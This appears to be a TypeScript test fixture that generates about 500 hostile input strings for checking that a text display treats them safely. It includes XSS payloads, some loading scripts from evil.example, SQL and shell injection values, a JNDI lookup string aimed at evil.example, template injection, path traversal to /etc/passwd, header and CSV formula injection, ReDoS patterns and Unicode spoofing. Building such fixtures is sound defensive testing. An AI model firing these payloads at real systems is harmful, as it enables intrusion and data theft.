// Five hundred texts of people who mean no good, or whose phone does strange things. Each is shown as the text that it is, or refused.
// `harmless(n)`: what a script in one of them would have called.

const call = 'window.__ran=1';
const tags = ['script', 'img', 'svg', 'iframe', 'video', 'audio', 'body', 'details', 'object', 'embed', 'math', 'style', 'link', 'meta', 'base', 'form', 'input', 'marquee', 'template', 'textarea'];
const events = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onscroll', 'onbegin'];

const markup: string[] = [
  `<script>${call}</script>`, `<script src=//evil.example/x.js></script>`, `<scr<script>ipt>${call}</scr</script>ipt>`, `<SCRIPT>${call}</SCRIPT >`, `<script\x0c>${call}</script>`,
  `<svg><script>${call}</script></svg>`, `<svg/onload=${call}>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>">`, `<iframe src="javascript:${call}">`, `<object data="javascript:${call}">`, `<embed src="javascript:${call}">`, `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>*{display:none}</style>`, `<form action="javascript:${call}"><button>x`,
  `<a href="javascript:${call}">x</a>`, `<a href="data:text/html,<script>${call}</script>">x</a>`, `<details open ontoggle=${call}>`, `<input autofocus onfocus=${call}>`, `<template><script>${call}</script></template>`,
  `</textarea><script>${call}</script>`, `</title><script>${call}</script>`, `</style><script>${call}</script>`, `-->'"/><script>${call}</script>`, `]]><script>${call}</script>`, `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`, '`><img src=x onerror=' + call + '>', `<img src=x onerror=&#119;indow.__ran=1>`, `&lt;script&gt;${call}&lt;/script&gt;`, `&#60;script&#62;${call}&#60;/script&#62;`,
  `%3Cscript%3E${call}%3C/script%3E`, `\\u003cscript\\u003e${call}\\u003c/script\\u003e`, `<img/src="x"/onerror=${call}//`, `<img src=x:x onerror\n=\n${call}>`, `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
];
for (const tag of tags) for (const event of events) markup.push(`<${tag} ${event}="${call}">`);

const links: string[] = [];
for (const scheme of ['javascript', 'JaVaScRiPt', 'java\tscript', ' javascript', 'javascript\u200b', '\u0001javascript', 'vbscript', 'data', 'blob', 'file', 'intent', 'weixin', 'view-source', 'jar']) {
  links.push(`${scheme}:${call}`, `${scheme}://%0a${call}`, `@{${scheme}:${call}|点我}`, `#{${scheme}:${call}|话题}`);
}
links.push(
  'https://evil.example\\@good.example/', 'https://good.example@evil.example/', 'https://evil。example/x', 'http://[::1]/', 'https://evil.example/"onmouseover="' + call, `https://evil.example/<script>${call}</script>`,
  '//evil.example/x', '\\\\evil.example\\x', '/\\evil.example', 'https:evil.example', 'https://xn--80ak6aa92e.com/', 'https://аррӏе.example/', 'http://evil.example:99999/', 'https://%65vil.example/', 'https://' + 'a'.repeat(60) + '.example/' + 'b/'.repeat(40),
);

const strange: string[] = [
  // Direction and invisible signs.
  '\u202e反过来的字\u202c', '\u202eexe.gpj', '\u2066abc\u2067def\u2069', '\u200f\u200f右到左', '\u202a\u202b\u202d\u202e', 'مرحبا بالعالم', 'שלום עולם', '\ufeff开头', '字\u200b字\u200c字\u200d字\u2060字', '\u00ad软连字符', '\u180e', '\u3164', '\u115f\u1160', '\u2800\u2800\u2800',
  '\u{e0001}\u{e0020}\u{e007f}', '\ufff9注\ufffa音\ufffb', '\u2028行\u2029段', '\u0085', '\u00a0\u00a0', '\u034f',
  // Stacked marks, emoji, outside the plane.
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035aa\u0300\u0301\u0302\u0303\u0304lgo', '字' + '\u0488'.repeat(30), 'a' + '\u0300'.repeat(100), '\u0e49'.repeat(60), '👨‍👩‍👧‍👦'.repeat(5), '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}', '🇨🇳🇨', '👍🏿👍🏻', '\u{1f1e6}'.repeat(9), '𠮷𠀀𪚥', 'ﷺ'.repeat(10), '﷽'.repeat(8), 'ǅǆ', 'ſſſ', 'İıIi', 'ß', 'ﬃ',
  // Broken or refused letters.
  'a\u0000b', '\u0000', '\u0001\u0002\u0003', '\u001b[31m红\u001b[0m', '\u0007', '\b\b\b', '\u007f', '\ufffe\uffff', '\ud800', '\udc00', '\ud83d', 'a\ud800b', '\udfff\ud800',
  // Very long.
  'w'.repeat(200), '很'.repeat(200), '-'.repeat(200), '/'.repeat(200), '．'.repeat(120), '\n'.repeat(80), ' '.repeat(200), 'a\n'.repeat(60), '\t'.repeat(80), '﷽'.repeat(40), '😀'.repeat(90), 'W'.repeat(499),
];
const templates: string[] = [
  '{{constructor.constructor("return this")().__ran=1}}', '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{%if 1%}x{%endif%}', '[[${7*7}]]', '@(7*7)', '${jndi:ldap://evil.example/a}', '{{#with "s" as |string|}}', '`${window.__ran=1}`', '%{7*7}', '*{7*7}', '~{7*7}',
  '@{', '@{|}', '@{u|}', '@{|n}', '@{u1|a|b}', '@{u1|@{u2|b}}', '#{t|#{t|x}}', '@{__proto__|x}', '@{constructor|x}', '#{toString|x}', '@{u1|\u202ex}', '@{u1|<b>x</b>}', '@{../../x|x}', '@{u1 |x}',
];
const keys: string[] = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'null', 'undefined', 'NaN', 'true', '[object Object]', '-1', '1e309', '0x41', '{"a":1}', '{"__proto__":{"x":1}}', '[]', '""', '\\', '\\\\', "\\'", '\\"', '%', '%s%s%s', '%00', '%n', '_', '*', '?', 'local:1', 'media:1', '«token:1»', 'user:1', 'a|b|c', 'feed|user:1', '../../../etc/passwd', '..\\..\\x', 'file:///etc/passwd', 'CON', 'aux.txt', '/api/main/bbs/threads'];
const queries: string[] = ["' OR '1'='1", "'; DROP TABLE users; --", '" OR ""="', "') UNION SELECT phone FROM users --", "1; SELECT pg_sleep(5)", "\\'; --", "admin'--", "' || (select version()) || '", "%' AND 1=1 --", "'; COPY users TO PROGRAM 'id'; --", '$1', '$$x$$', 'E\'\\x41\'', "\u02bc OR 1=1", "＇ OR 1=1", '; ls -la', '| cat /etc/passwd', '`id`', '$(id)', '&& id', '\r\nSet-Cookie: a=b', '\r\n\r\n<script>', 'a\r\nX-Evil: 1', '=cmd|\'/c calc\'!A0', '+1+cmd', '@SUM(1)', '(?:a+)+$', '(a|a)*b', 'a'.repeat(90) + '!', '!'.repeat(120), "*:*", 'tsquery & | !', "a:* & b", '<->'];

const own = [...markup, ...links, ...strange, ...templates, ...keys, ...queries];
/** Pairs of two of them make up the number. */
const more = Array.from({ length: Math.max(0, 500 - own.length) }, (_, i) => `${own[(i * 7) % own.length] ?? ''} ${own[(i * 13 + 5) % own.length] ?? ''}`);
export const hostilePayloads: readonly string[] = [...own, ...more].filter((text, at, all) => all.indexOf(text) === at);
